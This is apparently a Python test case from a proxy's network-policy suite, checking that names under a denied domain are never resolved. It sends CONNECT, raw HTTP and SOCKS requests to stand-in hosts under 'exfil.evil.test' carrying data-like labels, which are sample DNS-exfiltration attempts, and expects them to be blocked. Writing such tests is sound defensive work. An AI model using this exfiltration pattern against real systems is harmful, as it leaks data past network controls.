#!/usr/bin/python3
# id: NP-24
# title: DNS exfiltration through the proxy: names under a non-allowed domain must not even be resolved
# class: boundary
# needs: proxy
# expect: no DNS query for the denied name leaves (log check by runner)
# layer: proxy
import os, sys; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from px import *
control()
connect("data-0123456789.exfil.evil.test:443", t=1); raw(b"GET http://data-abcdef.exfil.evil.test/ HTTP/1.1\r\nHost: x\r\n\r\n", 1); socks(b"data-socks.exfil.evil.test", 443, t=1); blocked("runner checks the DNS log")
